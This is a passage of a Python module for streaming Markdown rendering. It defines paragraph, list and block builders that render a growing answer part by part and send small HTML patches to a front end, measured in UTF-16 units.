        self._word = 0  # where the base's last word starts
        self._shown = ("", "")  # the text and HTML last returned

    def html(self, text: str) -> str:
        base = self._base
        if (
            base is not None
            and text.startswith(base)
            and _PLAIN_RUN.fullmatch(text, len(base)) is not None
            and _URLISH.search(text, self._word) is None
        ):
            added = _escape_text(text[len(base) :])
            self._shown = (
                text,
                self._html[: -self._closing] + added + self._html[-self._closing :],
            )
            return self._shown[1]
        self._html = self._render(_markdown.repair(text))
        closing = _CLOSING.search(self._html)
        self._closing = len(closing.group()) if closing else 0
        # The text must end in a plain word that is also the end of the HTML's text:
        # not inside a code span or block, a link being typed, or anything repaired.
        end = _PLAIN_END.search(text[-200:])
        before = self._html[: len(self._html) - self._closing]
        plain = self._closing and end is not None and before.endswith(end.group(1))
        self._base = text if plain else None
        self._word = len(text) - len(end.group(1)) if end is not None else 0
        self._shown = (text, self._html)
        return self._html

    def final(self, text: str) -> str:
        """The text's HTML as finished: what was shown, if nothing in it was repaired."""
        if self._shown[0] == text and _markdown.repair(text) == text:
            return self._shown[1]
        return self._render(text)


def _one_paragraph(block_html: str) -> bool:
    return (
        block_html.startswith("<p>")
        and block_html.endswith("</p>")
        and block_html.count("<p>") == 1
    )


class _Paragraph:
    """A paragraph that may grow long: cut, where nothing inline is open, into parts
    rendered once each, so only its last part is rendered again as text arrives.

    A cut goes at a space or line break (or after a CJK full stop) followed by a letter,
    once the part is `_PIECE` long, and only where `_markdown.inline_closed` says no
    emphasis, code span or link spans it and the part renders as one plain paragraph:
    then "<p>" + part + separator + rest is what the whole paragraph renders as. Cuts
    depend only on the text before them, so streaming and a whole render cut alike.
    """

    def __init__(self, render: Callable[[str], str]) -> None:
        self._render = render
        # Positions count from the paragraph's start; `_text` holds its whole lines
        # (each with its "\n") from `_base` on: what is before the last cut is dropped.
        self._text = ""
        self._base = 0
        self._start = 0  # where the part after the last cut starts
        self._seen = 0  # cut candidates before this position were considered
        self._check = _PIECE  # the part length from which a cut is considered
        self._inner = _Run()  # finished parts' HTML without <p>, each with its separator
        self._trailing = ""  # the white space that ends `_inner`
        self._trailing_read = ""  # ... when `_inner` was last read
        self._widest = 0  # the longest stretch between cuts
        self._live = _Live(render)
        self.guard = _markdown.Guard()  # measures the whole lines after the last cut
        self._guarded = 0  # where the text `guard` measures starts

    def add(self, source: str) -> None:
        self._text += source + "\n"
        self._scan()
        if self._guarded != self._start:  # cut since: measure the new last part
            self.guard, self._guarded = _markdown.Guard(), self._start
            self.guard.feed(self._text[self._start - self._base :])
        else:
            self.guard.feed(source + "\n")
        drop = min(self._start - self._base, len(self._text))
        self._text, self._base = self._text[drop:], self._base + drop

    def stretch(self, partial: str = "") -> int:
        """The longest stretch without a cut so far, with the unfinished line `partial`."""
        if partial:
            self._scan(partial)
        end = self._base + len(self._text) + len(partial)
        return max(self._widest, end - self._start)

    def last_cut_in(self, partial: str) -> int:
        """Where in the unfinished line `partial` the part after the last cut starts."""
        self._scan(partial)
        return max(0, self._start - self._base - len(self._text))

    def _scan(self, partial: str = "") -> None:
        base, text = self._base, self._text + partial
        while match := _CUT.search(text, max(self._seen, self._start + self._check) - base):
            at = base + match.start()
            if at - self._start > _markdown.MAX_STRETCH:
                break  # no cut for too long: the block shows as text (`_Block._costly`)
            separator = match.group()
            part = text[self._start - base : at - base]
            # The separator comes next: a delimiter run ending the part can grow no more.
            closed = _markdown.inline_closed(part + separator)
            closed = closed and not _math.may_go_on(part, separator)
            part_html = self._render(part) if closed else ""
            if _one_paragraph(part_html):
                self._widest = max(self._widest, at - self._start)
                self._add_part(part_html[3:-4] + separator)
                self._start, self._check = at + len(separator), _PIECE
                continue
            self._check = at - self._start + _PIECE_STEP
        self._seen = max(self._seen, base + len(text) - 1)

    def _add_part(self, part: str) -> None:
        self._inner.add(part)
        core = part.rstrip()
        self._trailing = part[len(core) :] if core else self._trailing + part

    def html(self, partial: str, final: bool) -> str:
        return self._whole(self._rest(partial, final))

    def live(self, partial: str, shown: bool) -> tuple[int, str]:
        """(how much of the HTML last returned is still its start, the HTML after it)."""
        rest = self._rest(partial, False)
        if not shown or not self._inner.size:
            return 0, self._whole(rest)
        start, added = self._inner.unread()
        if not start:
            return 0, self._whole(rest)
        trailing, self._trailing_read = self._trailing_read, self._trailing
        # "<p>" and the parts before the white space that ended them are as shown.
        return 3 + start - len(trailing), self._joined(trailing + added, rest)

    def _rest(self, partial: str, final: bool) -> str:
        """The HTML of the text after the last cut."""
        if partial:
            self._scan(partial)
        rest_text = (self._text + partial)[self._start - self._base :]
        return self._live.final(rest_text) if final else self._live.html(rest_text)

    def _whole(self, rest: str) -> str:
        if not self._inner.size:
            return rest
        self._trailing_read = self._trailing
        return "<p>" + self._joined(self._inner.text(), rest)

    def _joined(self, inner: str, rest: str) -> str:
        """`inner`, the end of the parts' HTML (with at least their trailing white space),
        and the rest's HTML, after "<p>"."""
        if rest.startswith("<p>"):
            return inner + rest[3:]
        head = inner[: len(inner) - len(self._trailing)] + "</p>"
        return head + ("\n" + rest if rest else "")


class _List:
    """A list that grows by items: the items before the last one are rendered once.

    In Python-Markdown a blank line only loosens the items on either side of it, so a
    list is cut before a top-level item of the same kind that directly follows a
    non-blank line; each part renders as one list, and its items go inside the first
    part's <ul> or <ol start=...>.
    """

    def __init__(self, render: Callable[[str], str], ordered: bool) -> None:
        self._render = render
        self._tag = "ol" if ordered else "ul"
        self._ordered = ordered
        self._open = ""  # the first part's opening tag
        self._items = _Run()  # the finished items' HTML, each part's with a line break
        self._rest: list[str] = []
        self.rest_size = 0
        self._live = _Live(render)
        self.guard = _markdown.Guard()  # measures the items after the last cut

    def add(self, source: str, line: _markdown.Line) -> None:
        if self._cuts_before(source, line):
            parts = self._split(self._render("\n".join(self._rest)))
            if parts is not None:
                self._open = self._open or parts[0]
                self._items.add(parts[1] + "\n")
                self._rest, self.rest_size = [], 0
                self.guard = _markdown.Guard()
        self._rest.append(source)
        self.rest_size += len(source) + 1
        self.guard.feed(source + "\n")

    def _cuts_before(self, source: str, line: _markdown.Line) -> bool:
        return (
            bool(self._rest)
            and line.kind == "item"
            and not line.blank_before
            and not line.text.startswith(" ")
            and bool(self._rest[-1].strip())
            and _markdown.ordered_item(source) == self._ordered
        )

    def _split(self, list_html: str) -> tuple[str, str] | None:
        """A one-list rendering split into its opening tag and its items."""
        close = f"\n</{self._tag}>"
        if not list_html.startswith(f"<{self._tag}") or not list_html.endswith(close):
            return None
        newline = list_html.find("\n")
        return list_html[:newline], list_html[newline + 1 : -len(close)]

    def html(self, partial: str, final: bool) -> str:
        return self._whole(self._rest_html(partial, final))

    def live(self, partial: str, shown: bool) -> tuple[int, str]:
        """(how much of the HTML last returned is still its start, the HTML after it)."""
        rest = self._rest_html(partial, False)
        if not shown or not self._items.size:
            return 0, self._whole(rest)
        start, added = self._items.unread()
        if not start:
            return 0, self._whole(rest)
        return len(self._open) + 1 + start, self._joined(added, rest)

    def _rest_html(self, partial: str, final: bool) -> str:
        text = "\n".join([*self._rest, partial] if partial else self._rest)
        return self._live.final(text) if final else self._live.html(text)

    def _whole(self, rest: str) -> str:
        if not self._items.size:
            return rest
        return f"{self._open}\n" + self._joined(self._items.text(), rest)

    def _joined(self, items: str, rest: str) -> str:
        """`items` (the end of the finished items' HTML) and the rest's HTML."""
        if rest.startswith(f"<{self._tag}"):
            return items + rest[rest.find("\n") + 1 :]
        return f"{items}</{self._tag}>" + ("\n" + rest if rest else "")


def _list_level(line: _markdown.Line) -> int:
    """How deep in lists a line is (the scanner indents TAB spaces per level)."""
    return (len(line.text) - len(line.text.lstrip(" "))) // _markdown.TAB


class _Block:
    """One top-level block, built line by line; `html` renders it with a live last line.

    Its lines decide how it is built: a fenced code block, a table, a paragraph or a
    list grow part by part; anything else is rendered whole (within `_markdown.Guard`'s
    limits); what is too costly for Python-Markdown is shown as escaped text.
    """

    def __init__(self, render: Callable[[str], str]) -> None:
        self._render = render
        self._lines: list[str] = []
        self._guard = _markdown.Guard()
        self._partial_guard = _markdown.Guard()
        self._guarded = 0  # characters of the live line the partial guard has seen
        self._guard_start = 0  # where in the live line what it measures starts
        self._longest = 0  # the longest line
        self._code: _CodeBlock | None = None
        self._raw: _RawText | None = None
        self._provisional: _RawText | None = None  # while the live line is too costly
        self._table: _Table | None = None
        self._paragraph: _Paragraph | None = None
        self._list: _List | None = None
        self._whole = _Live(render)  # for a block rendered whole
        self._shown: object = None  # what rendered the live HTML last returned
        self._table_gap = False
        self._first_kind = ""
        self._plain = True
        self.closed = False  # a fenced code block whose closing fence arrived

    @property
    def plain(self) -> bool:
        """Every line so far is paragraph text (a list after it starts a new block)."""
        return self._plain and self._code is None

    def add(
        self, source: str, line: _markdown.Line, opened: _markdown.Fence | None, closes: bool
    ) -> None:
        """A whole source line; `opened` is the fence it opens at top level, if any, and
        `closes` says it closes the fence open before it."""
        self._partial_guard, self._guarded, self._guard_start = _markdown.Guard(), 0, 0
        first = not self._lines
        self._lines.append(source)
        self._plain = self._plain and line.kind == "text"
        if first:
            self._first_kind = line.kind
        if self._provisional is not None:
            self._provisional.add(source)
        if first and opened is not None:
            self._code = _CodeBlock(opened, source)
        elif self._code is not None:
            if closes:
                self.closed = True
            elif not self.closed:
                self._code.add(line.text)
        elif self._raw is not None:
            self._raw.add(source)
        else:
            self._guard.feed(source + "\n")
            self._guard.line(source, _list_level(line))
            self._longest = max(self._longest, len(source))
            self._grow(source, line, first)
            if self._costly():
                self._raw = _RawText(self._lines)
                self._table = self._paragraph = self._list = None

    def _grow(self, source: str, line: _markdown.Line, first: bool) -> None:
        if first and line.kind != "text":
            self._paragraph = None  # begun for the line while it was typed (`_first_line`)
        if first and line.kind == "text":
            self._paragraph = self._paragraph or _Paragraph(self._render)
        elif first and line.kind == "item" and not line.text.startswith(" "):
            self._list = _List(self._render, _markdown.ordered_item(source))
        if self._paragraph is not None:
            self._paragraph.add(source)
        if self._list is not None:
            self._list.add(source, line)
        if len(self._lines) == 2 and self._first_kind in ("row", "text"):
            if "|" in self._lines[0] and "|" in source and _markdown.TABLE_DELIM.match(source):
                self._table = _Table(self._render, self._lines[0], source)
                self._paragraph = None
        elif self._table is not None:
            if not source.strip():
                self._table_gap = True
            elif self._table_gap or "|" not in source or not self._table.add(source):
                self._table = None

    def _costly(self, partial: str = "") -> bool:
        """Too costly for Python-Markdown to render again as the block grows.

        A paragraph, list or table is measured by the part rendered again (after the
        last cut; one row), a block rendered whole as a whole. Checked at each whole
        line, so streaming and `render_markdown` decide alike.
        """
        if self._paragraph is not None:
            stretch = self._paragraph.stretch(partial)
            return self._paragraph.guard.risky or stretch > _markdown.MAX_STRETCH
        if self._guard.depth > _markdown.MAX_DEPTH:
            return True
        if max(self._longest, len(partial)) > _markdown.MAX_LINE:
            return True
        if self._table is not None:
            return False
        if self._list is not None:
            rest = self._list.rest_size + len(partial)
            return self._list.guard.risky or rest > _markdown.MAX_BLOCK
        return (
            self._guard.risky
            or self._guard.size + len(partial) > _markdown.MAX_BLOCK
            or len(self._lines) > _markdown.MAX_LINES
        )

    def html(self, partial: str = "", *, final: bool = False) -> str:
        """The block's HTML; `partial` is its unfinished last line (none when final)."""
        if self._code is not None:
            if not self.closed:
                return self._code.html("" if final else partial)
            after = self._after_fence(partial)
            return self._code.html("") + ("\n" + after if after else "")
        if self._raw is not None:
            return self._raw.html(partial)
        self._first_line(partial)
        if partial and self._partial_costly(partial):
            if self._provisional is None:
                self._provisional = _RawText(self._lines)
            return self._provisional.html(partial)
        if self._table is not None:
            return self._table.html(partial, final)
        if self._paragraph is not None:
            return self._paragraph.html(partial, final)
        if self._list is not None:
            return self._list.html(partial, final)
        text = "\n".join([*self._lines, partial] if partial else self._lines)
        return self._whole.final(text) if final else self._whole.html(text)

    def live(self, partial: str) -> tuple[int, str]:
        """The live HTML as (how much of the HTML last returned is still its start, the
        HTML after it): an update then costs the size of what changed, not of the block."""
        mode = self._live_mode(partial)
        shown, self._shown = self._shown, mode
        if mode is None:
            return 0, self.html(partial)
        if mode is not self._code:
            return mode.live(partial, shown is mode)
        if not self.closed:
            return self._code.live(partial, shown is mode)
        fixed, rest = self._code.live("", shown is mode)
        after = self._after_fence(partial)
        return fixed, rest + ("\n" + after if after else "")

    def _live_mode(self, partial: str) -> _CodeBlock | _Table | _Paragraph | _List | None:
        """What renders the live HTML part by part (None: rendered whole)."""
        if self._code is not None:
            return self._code
        if self._raw is not None:
            return None
        self._first_line(partial)
        if partial and self._partial_costly(partial):
            return None
        return self._table or self._paragraph or self._list

    def _first_line(self, partial: str) -> None:
        """A paragraph's first line is cut as it is typed, as its later lines are: text
        that starts with a letter can only be a paragraph's."""
        if not self._lines and self._paragraph is None and _markdown.LETTER.match(partial):
            self._paragraph = _Paragraph(self._render)

    def _after_fence(self, partial: str) -> str:
        return self._render(_markdown.repair(partial)) if partial.strip() else ""

    def _partial_costly(self, partial: str) -> bool:
        # A paragraph renders again only what follows its last cut: measure that.
        start = self._paragraph.last_cut_in(partial) if self._paragraph is not None else 0
        if len(partial) < self._guarded or start > self._guard_start:
            self._partial_guard, self._guarded, self._guard_start = _markdown.Guard(), start, start
        self._partial_guard.feed(partial[self._guarded :])
        self._guarded = len(partial)
        self._partial_guard.line(partial[:200])
        return self._partial_guard.risky or self._costly(partial)


@dataclass(frozen=True, slots=True)
class Patch:
    """A change to the rendered HTML.

    append: add `html` after the frozen part; it never changes again.
    tail: replace the live (unfinished) last part with `html`.
    extend: in the live part, replace the `drop` characters that come before its last
        `keep` characters with `html` (both counted in UTF-16 code units, as JavaScript
        counts string length); an update then costs about the size of the new text
        instead of the whole open block (`keep` spares the closing tags).
    commit: the live part's first `size` UTF-16 code units join the frozen part; a block
        that finished as it was shown is not sent again.
    reset: replace everything (frozen and tail) with `html`; the tail becomes empty.
    """

    op: Literal["append", "tail", "extend", "commit", "reset"]
    html: str = ""
    drop: int = 0
    keep: int = 0
    size: int = 0


def _common_prefix(a: str, b: str) -> int:
    """Length of the longest common prefix (slice comparisons run at memcmp speed)."""
    n = min(len(a), len(b))
    if a[:n] == b[:n]:
        return n
    low, high = 0, n  # a[:low] == b[:low]; a[:high] != b[:high]
    while high - low > 1:
        middle = (low + high) // 2
        if a[low:middle] == b[low:middle]:
            low = middle
        else:
            high = middle
    return low


def _common_suffix(a: str, b: str, limit: int) -> int:
    """Length of the longest common suffix, at most `limit`."""
    n = min(len(a), len(b), limit)
    if a[len(a) - n :] == b[len(b) - n :]:
        return n
    low, high = 0, n
    while high - low > 1:
        middle = (low + high) // 2
        if a[len(a) - middle :] == b[len(b) - middle :]:
            low = middle
        else:
            high = middle
    return low


def utf16_length(text: str) -> int:
    """Length in UTF-16 code units, as JavaScript counts it: the unit of every size a
    patch or message gives the views."""
    return len(text.encode("utf-16-le")) // 2


def committed(live: str, size: int) -> str:
    """The first `size` UTF-16 code units of the live part: what a "commit" freezes."""
    if utf16_length(live) == len(live):  # no character outside the BMP: units are characters
        return live[:size]
    return live.encode("utf-16-le")[: 2 * size].decode("utf-16-le")


def spliced(live: str, patch: Patch) -> str:
    """The live part after an "extend" patch (what the front end computes)."""
    units = live.encode("utf-16-le")
    cut = len(units) - 2 * patch.keep
    head = units[: max(0, cut - 2 * patch.drop)].decode("utf-16-le")
    return head + patch.html + units[cut:].decode("utf-16-le")


def live_patch(old: str, new: str, *, whole: bool = True) -> Patch | None:
    """The smallest patch that turns the live part `old` into `new` (None: no change).
    When not `whole`, `old` and `new` are the ends of the live part after a start that
    stays: never a "tail"."""
    if old == new:
        return None
    start = _common_prefix(old, new)
    if start == 0 and whole:
        return Patch("tail", new)
    end = _common_suffix(old, new, min(len(old), len(new)) - start)
    return Patch(
        "extend",
        new[start : len(new) - end],
        utf16_length(old[start : len(old) - end]),
        utf16_length(old[len(old) - end :]),
    )


class MarkdownStream:
    """Renders a growing Markdown answer, sending only what changed.

    Why: a full re-render costs ~54 ms per update at 20,000 characters and re-sends the
    whole HTML each time, so the work would grow quadratically with the answer. Here a
    top-level block is rendered once, when later text proves it cannot change any more
    ("append"), and the open last block is updated by an "extend" patch about the size
    of the new text; within the open block only its unfinished part is rendered again
    (see `_Block`), so the cost per update stays flat whatever the block's size.

    A block is finished at a line that starts a new top-level block after a blank line,
    outside any fence, and that cannot merge with the block above (a list item after a
    list, a quote after a quote do merge), and around a top-level fenced code block:
    `_markdown.BlockScanner` decides, the same code that rewrites the source for
    Python-Markdown. The open block is repaired before it is rendered
    (`_markdown.repair`), so an unclosed fence shows as a code block and unfinished
    emphasis, code spans and links never show their markers.

    After `finish()`, `html == render_markdown(text)`; if a late reference-link
    definition changed an earlier block, `finish()` sends a "reset".
    """

    def __init__(self, *, allow_images: bool = False) -> None:
        self._allow_images = allow_images
        self._scanner = _markdown.BlockScanner()
        self._frozen_text: list[str] = []
        self._frozen_html: list[str] = []
        self._tail = ""  # source of the open block
        self._scanned = 0  # where the first line of the open block not yet scanned starts
        self._renderer = _Renderer(allow_images)
        self._block = _Block(self._renderer)
        # The live part as last sent: a start that no longer changes, in pieces, and the
        # rest; an update compares only the rest with the block's new HTML after that start.
        self._shown_start: list[str] = []
        self._shown_size = 0
        self._shown_rest = ""
        self._finished = False

    @property
    def text(self) -> str:
        return "".join(self._frozen_text) + self._tail

    @property
    def html(self) -> str:
        return "".join(self._frozen_html) + self._shown_live()

    @property
    def shown(self) -> tuple[str, str]:
        """(frozen, live) HTML: what the patches so far left in a view."""
        return "".join(self._frozen_html), self._shown_live()

    def append(self, delta: str) -> list[Patch]:
        if self._finished:
            raise RuntimeError("MarkdownStream.append() after finish()")
        self._tail += delta
        frozen = self._take_lines()
        partial = _source_line(self._tail[self._scanned :])
        if self._scanned and self._scanner.starts_block(partial):
            frozen.append(self._freeze(self._scanned))  # the block before it is done
        patches = self._frozen_patches([block for block in frozen if block])
        fixed, rest = self._block.live(partial)
        if self._frozen_html:  # Python-Markdown puts one newline between top-level elements
            if fixed:
                fixed += 1
            elif rest:
                rest = "\n" + rest
        if (patch := self._live_patch(fixed, rest)) is not None:
            patches.append(patch)
        return patches

    def _shown_live(self) -> str:
        if len(self._shown_start) > 1:
            self._shown_start = ["".join(self._shown_start)]
        return "".join(self._shown_start) + self._shown_rest

    def _live_patch(self, fixed: int, rest: str) -> Patch | None:
        """The patch from the live part as shown to its first `fixed` characters + `rest`."""
        if fixed < self._shown_size:  # rendered whole again (the start is 0 then)
            old = self._shown_live()
            self._shown_start, self._shown_size = [old[:fixed]], fixed
            old_rest = old[fixed:]
        else:
            moved = fixed - self._shown_size
            if moved:
                self._shown_start.append(self._shown_rest[:moved])
                self._shown_size = fixed
            old_rest = self._shown_rest[moved:]
        self._shown_rest = rest
        return live_patch(old_rest, rest, whole=not fixed)

    def finish(self) -> list[Patch]:
        """Render the last block as final; check the result against a full render."""
        if self._finished:
            return []
        self._finished = True
        patches = []
        patches += self._frozen_patches(self._close_block())
        if self._shown_size or self._shown_rest:
            self._shown_start, self._shown_size, self._shown_rest = [], 0, ""
            patches.append(Patch("tail", ""))
        if self._renderer.definitions:  # a late one may change a block rendered before it
            full = render_markdown(self.text, allow_images=self._allow_images)
            if full != self.html:
                self._frozen_html = [full]
                patches.append(Patch("reset", full))
        return patches

    def _frozen_patches(self, blocks: list[str]) -> list[Patch]:
        """Patches that freeze the finished `blocks`: a commit of the ones the live part
        already shows as they are (the usual case: a block finishes as it was last
        rendered, and is not sent again), an append of the others. The live part as
        shown is left as the views' live part after them."""
        if not blocks:
            return []
        live, shown = self._shown_live(), 0
        while shown < len(blocks) and live.startswith(blocks[shown]):
            live = live[len(blocks[shown]) :]
            shown += 1
        self._shown_start, self._shown_size, self._shown_rest = [], 0, live
        patches = []
        if size := utf16_length("".join(blocks[:shown])):
            patches.append(Patch("commit", size=size))
        if rest := "".join(blocks[shown:]):
            patches.append(Patch("append", rest))
        return patches

    # -- the block machine, shared with render_markdown ------------------------------------

    def _take_lines(self) -> list[str]:
        """Feed the open block's whole lines; return the HTML of the blocks they finished."""
        frozen: list[str] = []
        while (end := self._tail.find("\n", self._scanned)) >= 0:
            start = self._scanned
            self._scanned = end + 1
            html_text = self._feed_line(self._tail[start:end], start)
            if html_text is not None:
                frozen.append(html_text)
        return frozen

    def _feed_line(self, raw: str, start: int) -> str | None:
        source = _source_line(raw)
        fence_before = self._scanner.fence
        line = self._scanner.feed(source)
        opened = self._scanner.fence if fence_before is None else None
        top_fence = opened is not None and not opened.prefix
        finished = None
        if start > 0 and (
            line.starts_block or top_fence or self._block.closed or self._list_after(line)
        ):
            finished = self._freeze(start)
        if _DEFINITION.match(source):
            self._renderer.define(source)
        closes = fence_before is not None and self._scanner.fence is None
        self._block.add(source, line, opened if top_fence else None, closes)
        return finished

    def _list_after(self, line: _markdown.Line) -> bool:
        """A top-level list right after a paragraph: Python-Markdown, given the blank line
        that `_markdown.normalize` puts between them, renders them as two blocks."""
        return (
            line.kind == "item"
            and line.blank_before
            and not line.text.startswith(" ")
            and (self._block.plain)
        )

    def _freeze(self, start: int) -> str:
        """Finish the open block at `start` of the tail; the rest starts the next one."""
        block_html = self._joined(self._block.html(final=True))
        if block_html:
            self._frozen_html.append(block_html)
        self._frozen_text.append(self._tail[:start])
        self._tail = self._tail[start:]
        self._scanned -= start
        self._block = _Block(self._renderer)
        return block_html

    def _close_block(self) -> list[str]:
        """Finish the last block (its unterminated last line counts as a line)."""
        frozen = []
        if self._scanned < len(self._tail):
            html_text = self._feed_line(self._tail[self._scanned :], self._scanned)
            if html_text is not None:
                frozen.append(html_text)
            self._scanned = len(self._tail)
        last = self._joined(self._block.html(final=True))
        self._frozen_text.append(self._tail)
        self._tail = ""
        if last:
            self._frozen_html.append(last)
        return [*frozen, last]

    def _joined(self, block_html: str) -> str:
        """Python-Markdown puts one newline between top-level elements."""
        return "\n" + block_html if self._frozen_html and block_html else block_html
